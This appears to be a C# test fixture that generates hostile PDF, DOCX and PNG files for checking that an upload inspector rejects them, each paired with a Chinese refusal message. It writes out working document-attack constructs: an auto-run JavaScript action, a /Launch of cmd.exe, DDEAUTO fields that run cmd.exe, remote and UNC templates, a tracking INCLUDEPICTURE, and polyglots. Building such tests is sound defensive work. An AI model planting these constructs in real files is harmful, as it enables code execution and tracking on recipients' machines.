using System.IO.Compression;
using System.Text;

namespace BaZhouTalent.Tests.Shared;

/// <summary>The files the hostile suite passed through the old inspector: active content hidden where only a real parse finds it.</summary>
internal static class HostileFiles
{
    private const string Eicar = @"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    /// <summary>Each hostile file, its name, and the words of its refusal.</summary>
    public static TheoryData<string, string, string> Cases() => new()
    {
        { "pdf-javascript-in-hex-object-stream", "查重报告.pdf", "含有可自动运行的脚本" },
        { "pdf-launch-in-hex-object-stream", "查重报告.pdf", "含有可启动其他程序的动作" },
        { "pdf-exe-in-hex-object-stream", "查重报告.pdf", "含有嵌入的其他文件" },
        { "pdf-xfa-script", "查重报告.pdf", "XFA" },
        { "pdf-eicar-in-hex-stream", "查重报告.pdf", "EICAR" },
        { "pdf-zip-polyglot", "查重报告.pdf", "压缩包（ZIP）" },
        { "docx-macro-xlsm-embedded", "成果简介.docx", "宏" },
        { "docx-macro-workbook-renamed-xlsx", "成果简介.docx", "宏" },
        { "docx-remote-template", "成果简介.docx", "外部（网络上的）模板" },
        { "docx-unc-template", "成果简介.docx", "外部（网络上的）模板" },
        { "docx-ddeauto-field", "成果简介.docx", "DDE" },
        { "docx-dde-field-split", "成果简介.docx", "DDE" },
        { "docx-remote-includepicture", "成果简介.docx", "引用网络文件的域代码" },
        { "docx-pdf-polyglot", "成果简介.docx", "PDF" },
        { "png-zip-polyglot", "截图.png", "压缩包（ZIP）" },
    };

    public static byte[] Make(string kind) => kind switch
    {
        "pdf-javascript-in-hex-object-stream" => PdfFiles.WithObjectStream("/OpenAction 7 0 R", "ASCIIHexDecode",
            ["<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"]),
        "pdf-launch-in-hex-object-stream" => PdfFiles.WithObjectStream("/OpenAction 7 0 R", "ASCIIHexDecode",
            ["<< /Type /Action /S /Launch /F (cmd.exe) >>"]),
        "pdf-exe-in-hex-object-stream" => PdfFiles.WithObjectStream("/Names 7 0 R", "ASCIIHexDecode",
            ["<< /Files [(a.exe) 8 0 R] >>", "<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>"],
            new PdfFiles.Obj("<< /Filter /ASCIIHexDecode >>", PdfFiles.Encode("ASCIIHexDecode", ProgramBytes()))),
        "pdf-xfa-script" => PdfFiles.Page(catalogExtra: "/AcroForm 6 0 R", extra:
        [
            new PdfFiles.Obj("<< /Fields [] /XFA 7 0 R >>"),
            new PdfFiles.Obj("<< /Filter /ASCIIHexDecode >>", PdfFiles.Encode("ASCIIHexDecode", Encoding.UTF8.GetBytes(
                "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><event activity=\"initialize\"><script contentType=\"application/x-javascript\">app.alert(1)</script></event></subform></template></xdp:xdp>"))),
        ]),
        "pdf-eicar-in-hex-stream" => PdfFiles.Page(extra: new PdfFiles.Obj("<< /Filter [/ASCIIHexDecode /FlateDecode] >>",
            PdfFiles.Encode("ASCIIHexDecode", PdfFiles.Zlib(Encoding.ASCII.GetBytes(Eicar))))),
        "pdf-zip-polyglot" => [.. PdfFiles.Page(), .. DocxFiles.FromMarkup("压缩包")],
        "docx-macro-xlsm-embedded" => DocxFiles.WithEntry(DocxFiles.FromMarkup("成果简介\n正文。"), "word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", DocxFiles.MacroWorkbook()),
        "docx-macro-workbook-renamed-xlsx" => DocxFiles.WithEntry(DocxFiles.FromMarkup("成果简介\n正文。"), "word/embeddings/Worksheet1.xlsx", DocxFiles.MacroWorkbook()),
        "docx-remote-template" => DocxFiles.WithTemplate("https://templates.example.net/report.dotm"),
        "docx-unc-template" => DocxFiles.WithTemplate(@"file://\\198.51.100.7\share\report.dotm"),
        "docx-ddeauto-field" => DocxFiles.WithField(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" "),
        "docx-dde-field-split" => DocxFiles.WithField(" D", "DE", " c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" "),
        "docx-remote-includepicture" => DocxFiles.WithField(" INCLUDEPICTURE \"http://tracker.example.net/p.png\" \\d "),
        "docx-pdf-polyglot" => PdfFirst(DocxFiles.FromMarkup("成果简介\n正文。")),
        "png-zip-polyglot" => [.. ImageFiles.Png(), .. DocxFiles.FromMarkup("压缩包")],
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    /// <summary>The package with a stored first entry that holds a whole PDF: a PDF reader finds %PDF- in the first kilobyte.</summary>
    private static byte[] PdfFirst(byte[] docx)
    {
        using var source = new ZipArchive(new MemoryStream(docx), ZipArchiveMode.Read);
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            using (var pdf = zip.CreateEntry("a.pdf", CompressionLevel.NoCompression).Open()) pdf.Write(PdfFiles.Page());
            foreach (var entry in source.Entries)
            {
                using var from = entry.Open();
                using var to = zip.CreateEntry(entry.FullName).Open();
                from.CopyTo(to);
            }
        }
        return stream.ToArray();
    }

    private static byte[] ProgramBytes()
    {
        var bytes = new byte[256];
        "MZ"u8.CopyTo(bytes);
        "PE\0\0"u8.CopyTo(bytes.AsSpan(128));
        return bytes;
    }
}
